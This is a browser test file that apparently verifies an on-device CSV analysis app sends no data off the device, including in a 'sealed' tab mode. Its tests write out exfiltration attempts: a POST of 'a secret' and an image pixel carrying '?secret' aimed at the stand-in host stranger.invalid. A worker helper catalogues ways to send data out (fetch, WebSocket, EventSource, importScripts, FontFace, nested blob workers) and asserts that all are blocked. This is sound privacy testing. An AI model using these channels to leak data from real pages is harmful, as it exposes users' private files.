// Nothing leaves the device: by the page's policy, by measure, and with the network cut.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { test } from 'node:test';
import { browser, episodes, judged, open, server, table, withBrowser } from './page.mjs';

withBrowser();

const { text, at } = table({ rows: 3000, spike: 2000 });
const file = { name: 'secret.csv', mimeType: 'text/csv', buffer: Buffer.from(text) };
const sent = (page) => page.locator('[data-test=sent]').getAttribute('data-bytes').then(Number);
const tries = (page, what) => page.evaluate((what) => fetch(what, { method: 'POST', body: 'a secret' }).then(() => 'went', () => 'stopped'), what);

test('with every request aborted after the page is there, the whole flow of a file passes', async () => {
  const { page, context, foreign, complaints } = await open(browser, server.origin, { serviceWorkers: 'block' });
  await page.waitForLoadState('networkidle');
  const asked = [];
  await page.route('**', (route) => (asked.push(route.request().url()), route.abort()));
  await page.locator('input[type=file]').first().setInputFiles(file);
  await judged(page);
  const found = await episodes(page);
  assert.ok(found.some(({ from, to }) => from <= at(2000) && to >= at(2000)), JSON.stringify(found));
  await page.locator('[data-test=episode]').first().click();
  await page.locator('[data-test=why]').waitFor();
  assert.deepEqual(asked, [], 'it asked the network');
  assert.equal(await sent(page), 0);
  assert.deepEqual(foreign, []);
  assert.deepEqual(complaints, []);
  await context.close();
});

test('the counter counts: what is sent is shown, and other places are refused', async () => {
  const { page, context } = await open(browser, server.origin);
  assert.equal(await sent(page), 0);
  assert.match(await page.locator('footer').textContent(), /Nothing leaves this device\. 0 bytes sent/);
  assert.equal(await tries(page, './nowhere'), 'went', 'its own server may be asked while the tab is open');
  await page.waitForFunction(() => Number(document.querySelector('[data-test=sent]').dataset.bytes) === 8);
  assert.doesNotMatch(await page.locator('footer').textContent(), /Nothing leaves/);
  assert.equal(await tries(page, 'https://stranger.invalid/'), 'stopped');
  assert.equal(await page.evaluate(() => new Promise((told) => {
    const picture = new Image();
    picture.onload = () => told('went');
    picture.onerror = () => told('stopped');
    picture.src = 'https://stranger.invalid/pixel.png?secret';
  })), 'stopped');
  await page.locator('[data-test=sent]').filter({ hasText: 'stopped by the browser' }).waitFor();
  await context.close();
});

test('a sealed tab is refused every connection and still judges a file', async () => {
  const { page, context } = await open(browser, server.origin);
  await page.locator('[data-test=seal]').click();
  await page.locator('[data-test=seal][aria-pressed=true]').waitFor();
  assert.equal(await tries(page, './nowhere'), 'stopped');
  await page.locator('input[type=file]').first().setInputFiles(file);
  await judged(page);
  await page.reload();
  await page.locator('[data-test=seal][aria-pressed=true]').waitFor();
  await judged(page);
  assert.equal(await tries(page, './nowhere'), 'stopped', 'the seal holds over a reload');
  await Promise.all([page.waitForEvent('load'), page.locator('[data-test=seal]').click()]);
  assert.equal(await tries(page, './nowhere'), 'went', 'it can be opened again');
  await context.close();
});

/** Every way by which a thread could ask a place for something; those that got through. */
const waysOut = async (address) => {
  const way = {
    fetch: () => WorkerGlobalScope.prototype.fetch.call(self, address, { mode: 'no-cors' }),
    request: () => new XMLHttpRequest(),
    socket: () => new WebSocket(address),
    events: () => new EventSource(address),
    caches: async () => (await caches.open('out')).add(address),
    buckets: async () => (await (await navigator.storageBuckets.open('out')).caches.open('out')).add(address),
    code: () => import(address),
    script: () => importScripts(address),
    font: () => new FontFace('out', `url(${address})`).load(),
    thread: () => new Promise((told, failed) => {
      const tell = `fetch('${address}', { mode: 'no-cors' }).then(() => postMessage('went'), () => postMessage('stopped'))`;
      const inner = new Worker(URL.createObjectURL(new Blob([tell], { type: 'text/javascript' })));
      inner.onmessage = ({ data }) => (data === 'went' ? told() : failed());
      inner.onerror = failed;
    }),
  };
  const went = [];
  for (const [name, go] of Object.entries(way)) {
    await Promise.resolve().then(go).then(() => went.push(name), () => {});
  }
  return went;
};

for (const path of ['', 'connect.html']) {
  test(`the engine thread of /${path} has no way out`, async (t) => {
    const { page, context } = await open(browser, server.origin);
    await page.goto(`${server.origin}/${path}`);
    await page.locator('[data-test=home]').waitFor();
    await page.locator('input[type=file]').first().setInputFiles(file);
    await judged(page);
    const asked = [];
    const stranger = createServer((request, response) => {
      asked.push(request.url);
      response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end();
    });
    await new Promise((listening) => stranger.listen(0, '127.0.0.1', listening));
    t.after(() => stranger.close());
    const address = `http://127.0.0.1:${stranger.address().port}/?secret`;
    assert.deepEqual(await page.workers()[0].evaluate(waysOut, address), []);
    assert.deepEqual(asked, []);
    // The page itself may, where a person wants it to: so the stranger can be reached.
    const reached = await page.evaluate((address) => fetch(address, { mode: 'no-cors' }).then(() => true, () => false), address);
    assert.equal(reached, path === 'connect.html');
    await context.close();
  });
}
